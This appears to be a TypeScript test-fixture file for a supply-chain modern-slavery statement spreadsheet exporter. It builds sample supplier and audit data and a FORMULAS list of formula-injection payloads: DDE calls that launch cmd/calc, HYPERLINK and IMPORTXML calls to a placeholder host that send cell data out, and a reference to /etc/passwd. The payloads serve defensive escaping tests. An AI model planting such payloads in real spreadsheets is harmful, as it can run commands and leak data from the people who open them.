import ExcelJS from 'exceljs';
import type { FormPart } from '@firebreak/statements/model';
import type { EvidenceRows } from './evidence-rows';
import { renderStatementWorkbook } from './render-statement-workbook';

export type Supplier = EvidenceRows['suppliers'][number];

export function aSupplier(changes: Partial<Supplier>): Supplier {
  return {
    id: 'a',
    name: 'Tirupur Knits',
    country: 'IN',
    isic: '1410',
    tier: 1,
    kinds: ['supplier'],
    status: 'active',
    spendAmount: null,
    spendCurrency: null,
    externalId: null,
    score: 61.4,
    band: 'high',
    confidence: 50,
    scoredAt: null,
    ...changes,
  };
}

export const someRows = (): EvidenceRows => ({
  suppliers: [
    aSupplier({ id: 'b', name: 'Unplaced', tier: null, score: null, band: null }),
    aSupplier({ id: 'c', name: '=HYPERLINK("http://x")', country: 'BD', tier: 2 }),
    aSupplier({ id: 'd' }),
    aSupplier({ id: 'e', name: '@SUM(A1)', country: 'BD' }),
  ],
  findings: [
    {
      id: 'f',
      auditId: 'g',
      supplierId: 'a',
      supplierName: 'Tirupur Knits',
      siteId: null,
      siteName: null,
      code: 'DOC-01',
      title: '+Identity documents kept',
      severity: 'critical',
      iloIndicators: ['ILO-07'],
      provesIndicator: true,
      foundOn: '2026-01-02',
      dueOn: '2026-01-09',
      state: 'closure-claimed',
      overdue: true,
      actionOwner: '-Plant manager',
    },
  ],
  actions: [
    {
      id: 'h',
      owner: '=1+1',
      dueOn: '2026-01-09',
      description: '+Passports handed back',
      state: 'claimed',
      finding: { code: 'DOC-01', title: '@Identity documents kept', severity: 'critical' },
      supplierName: '-Tirupur Knits',
      siteName: null,
    },
  ],
  decisions: [
    aDecision({ subject: 'criterion/x-6' }),
    aDecision({ subject: 'criterion/x-1', evidence: 'A sentence that is gone.', reason: 'outdated' }),
    aDecision({ subject: 'metric/qm-plain', evidence: '', reason: '=SUM(A1)' }),
    aDecision({ subject: 'warning/late//', verdict: 'kept', evidence: '', reason: '@late' }),
  ],
  metrics: [
    {
      id: 'qm-plain',
      category: 'text_quality',
      question: 'Is it readable and accessible?',
      evidenceSatisfied: '',
      evidenceUnsatisfied: '',
      source: '',
      tier: 'core',
    },
  ],
  forms: [
    {
      law: 'uk-statement-registry',
      name: 'Registry',
      jurisdiction: 'GB',
      fields: [
        {
          criterion: 'uk-reg-training',
          ref: 'Registry form',
          title: 'Training audiences',
          requirement: '',
          mandatory: false,
          source: 'https://www.gov.uk/form',
          wording: 'official',
          parts: [
            aPart({ id: 'audiences', kind: 'many', typed: { text: '=also', chosen: ['hr', 'procurement'] } }),
            aPart({
              id: 'name',
              fromData: { text: '-Harbour', chosen: [], kept: 'whole', records: [], figures: [] },
            }),
            aPart({ id: 'parent', maxLength: 200 }),
          ],
        },
      ],
    },
  ],
  lawNames: { 'uk-msa-s54': 'Modern Slavery Act' },
  editions: [],
  programme: [],
});

export function aDecision(
  changes: Partial<EvidenceRows['decisions'][number]>,
): EvidenceRows['decisions'][number] {
  return {
    subject: '',
    verdict: 'met',
    reason: 'Two courses were held.',
    evidence: 'We have not yet recorded any training on slavery and human trafficking for this year.',
    decidedBy: 'Ada Lovelace',
    decidedAt: '2026-05-04T10:00:00.000Z',
    ...changes,
  };
}

export function aPart(changes: Partial<FormPart>): FormPart {
  return { id: '', kind: 'text', options: [], maxLength: null, fromData: null, typed: null, ...changes };
}

/** What a spreadsheet would run, behind what makes it a formula. */
export const FORMULAS = ['=', '+', '-', '@', '\t=', '\r\n='].flatMap((start) =>
  [
    'HYPERLINK("http://x.example/?"&A1,"x")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML("http://x.example","//a")',
    "'file:///etc/passwd'#$Sheet1.A1",
  ].map((formula) => start + formula),
);

export async function workbookOf(...input: Parameters<typeof renderStatementWorkbook>): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of renderStatementWorkbook(...input)) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

export async function read(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(bytes).buffer);
  return workbook;
}

export const rowsOf = (workbook: ExcelJS.Workbook, sheet: string) =>
  (workbook.getWorksheet(sheet)?.getSheetValues() ?? []).slice(1).map((row) => (row as unknown[]).slice(1));
